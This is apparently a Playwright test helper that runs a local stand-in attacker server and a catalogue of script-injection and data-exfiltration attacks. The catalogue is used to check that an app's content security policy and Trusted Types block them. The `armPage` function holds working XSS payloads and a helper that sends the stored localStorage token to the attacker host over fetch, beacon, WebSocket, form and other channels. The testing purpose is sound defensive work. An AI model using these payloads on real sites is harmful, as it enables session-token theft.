import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright';

/** A server of another site, which serves scripts and records requests. */
export type AttackerServer = {
	address: string;
	/** A page without a content security policy, on which each attack succeeds. */
	page: string;
	/** The last path segment of each request, without its extension. */
	requestedNames: Set<string>;
	close(): void;
};

/** Starts it under another host name than the app's, so that it is another site. */
export async function openAttackerServer(): Promise<AttackerServer> {
	const asked = new Set<string>();
	const note = (url = '') => void asked.add(url.replace(/^\/|[.?].*$/g, ''));
	const server = createServer((request, response) => {
		note(request.url);
		const { type, body } = contentFor(request.url?.replace(/\?.*$/, ''));
		response.writeHead(200, { 'Content-Type': type, 'Access-Control-Allow-Origin': '*' });
		response.end(body);
	});
	server.on('upgrade', (request, socket) => {
		note(request.url);
		socket.destroy();
	});
	await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
	const close = () => {
		server.closeAllConnections();
		server.close();
	};
	const { port } = server.address() as AddressInfo;
	return {
		address: `http://127.0.0.1:${port}`,
		page: `http://localhost:${port}/page.html`,
		requestedNames: asked,
		close,
	};
}

function contentFor(path = ''): { type: string; body: string } {
	if (path.endsWith('.html')) return { type: 'text/html', body: '<!doctype html><body></body>' };
	if (path.endsWith('.js')) return { type: 'text/javascript', body: "self.ran?.add('external-script')" };
	return { type: 'text/plain', body: '' };
}

/**
 * The attacks: the thirteen of the threat model, and other ways to run or load something. `script` runs code in the page;
 * `network` sends a request to the other server, each with the policy violation that the browser reports. The form leaves
 * the page: it must be the last.
 */
export const attacks = {
	script: [
		'inner-html',
		'set-attribute',
		'eval',
		'inline-script',
		'external-script',
		'second-policy',
		'same-policy',
		'own-worker',
		'base',
		'function',
		'string-timer',
		'javascript-url',
		'data-script',
		'blob-worker',
		'srcdoc',
		'fragment',
	],
	network: {
		fetch: /^connect-src .*\/fetch/,
		image: /^img-src .*\/image/,
		socket: /^connect-src ws:.*\/socket/,
		beacon: /^connect-src .*\/beacon/,
		prefetch: /^default-src .*\/prefetch/,
		'event-source': /^connect-src .*\/event-source/,
		frame: /^frame-src http/,
		object: /^require-trusted-types-for/,
		stylesheet: /^style-src-elem .*\/stylesheet/,
		'style-import': /^style-src-elem inline/,
		background: /^img-src .*\/background/,
		sound: /^media-src .*\/sound/,
		font: /^font-src .*\/font/,
		ping: /^connect-src .*\/ping/,
		form: /^form-action .*\/form/,
	},
} as const;

/** The outcome of an attack: the marks of scripts that ran, and the policy violations (`directive address`). */
export type AttackOutcome = { ran: string[]; stopped: string[] };

/** Starts an attack as a task of the page: code from the driver is not subject to the policy. */
export async function launchAttack(page: Page, name: string): Promise<void> {
	await page.evaluate(runAttack, name);
}

/** The outcome in a page so far. */
export function outcomeIn(page: Page): Promise<AttackOutcome> {
	return page.evaluate(() => {
		const { ran, stopped } = window as unknown as { ran: Set<string>; stopped: string[] };
		return { ran: [...ran], stopped };
	});
}

/** Runs in the page. A sink that refuses throws. */
function runAttack(name: string): Promise<void> {
	const { attack } = window as unknown as { attack: Record<string, () => unknown> };
	return new Promise((resolve) => {
		setTimeout(async () => {
			await Promise.resolve()
				.then(attack[name])
				.catch(() => {});
			setTimeout(resolve);
		});
	});
}

/** Runs in each page before its own scripts: defines the attacks of injected code that has the family's token. */
export function armPage(evil: string): void {
	if (location.origin === evil) return;
	const ran = new Set<string>();
	const stopped: string[] = [];
	document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
		stopped.push(`${effectiveDirective} ${blockedURI}`);
	});
	const loot = () => `?${localStorage.getItem('token')}`;
	const to = (name: string) => `${evil}/${name}${loot()}`;
	const mark = (name: string) => `ran.add('${name}')`;
	const put = (tag: string, attributes: Record<string, string>, text = '') => {
		const element = document.createElement(tag);
		for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
		element.append(text);
		document.body.append(element);
		return element;
	};
	type Policies = { createPolicy(name: string, rules: object): unknown };
	const { trustedTypes } = window as unknown as { trustedTypes: Policies };
	const takeAll = { createHTML: String, createScript: String, createScriptURL: String };

	const attack: Record<string, () => unknown> = {
		'inner-html': () => {
			put('div', {}).innerHTML = `<img src="x:" onerror="${mark('inner-html')}">`;
		},
		'set-attribute': () => put('button', { onclick: mark('set-attribute') }).click(),
		// biome-ignore lint/security/noGlobalEval: the test is whether the policy blocks it
		eval: () => globalThis.eval(mark('eval')),
		'inline-script': () => put('script', {}, mark('inline-script')),
		'external-script': () => put('script', { src: `${evil}/external-script.js` }),
		'second-policy': () => trustedTypes.createPolicy('mine', takeAll) && ran.add('second-policy'),
		'same-policy': () => trustedTypes.createPolicy('app-sw', takeAll) && ran.add('same-policy'),
		'own-worker': async () => {
			await navigator.serviceWorker.register('/sw.js', { scope: '/assets/' });
			ran.add('own-worker');
		},
		base: () => {
			const base = document.createElement('base');
			base.href = `${evil}/base/`;
			document.head.prepend(base);
			if (document.baseURI.startsWith(evil)) ran.add('base');
			base.remove();
		},
		function: () => new Function(mark('function'))(),
		'string-timer': () => setTimeout(mark('string-timer')),
		'javascript-url': () => put('a', { href: `javascript:void ${mark('javascript-url')}` }).click(),
		'data-script': () => put('script', { src: `data:text/javascript,${mark('data-script')}` }),
		'blob-worker': () => {
			const program = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
			return new Promise((resolve, reject) => {
				const worker = new Worker(program);
				worker.onmessage = () => resolve(ran.add('blob-worker'));
				worker.onerror = reject;
			});
		},
		srcdoc: () => put('iframe', { srcdoc: `<script>parent.${mark('srcdoc')}</script>` }),
		fragment: () => {
			document.body.append(
				document.createRange().createContextualFragment(`<img src="x:" onerror="${mark('fragment')}">`),
			);
		},

		fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
		image: () => put('img', { src: to('image') }),
		socket: () => new WebSocket(to('socket').replace('http', 'ws')),
		beacon: () => navigator.sendBeacon(to('beacon')),
		prefetch: () => put('link', { rel: 'prefetch', href: to('prefetch') }),
		'event-source': () => new EventSource(to('event-source')),
		frame: () => put('iframe', { src: to('frame') }),
		object: () => put('object', { data: to('object') }),
		stylesheet: () => put('link', { rel: 'stylesheet', href: to('stylesheet') }),
		'style-import': () => put('style', {}, `@import url("${to('style-import')}")`),
		background: () => {
			document.body.style.backgroundImage = `url("${to('background')}")`;
		},
		sound: () => put('audio', { src: to('sound'), preload: 'auto' }),
		font: () => new FontFace('Evil', `url("${to('font')}")`).load(),
		ping: () => put('a', { ping: to('ping'), href: '#' }).click(),
		form: () => (put('form', { action: to('form'), method: 'post' }) as HTMLFormElement).submit(),
	};
	Object.assign(window, { ran, stopped, attack });
}
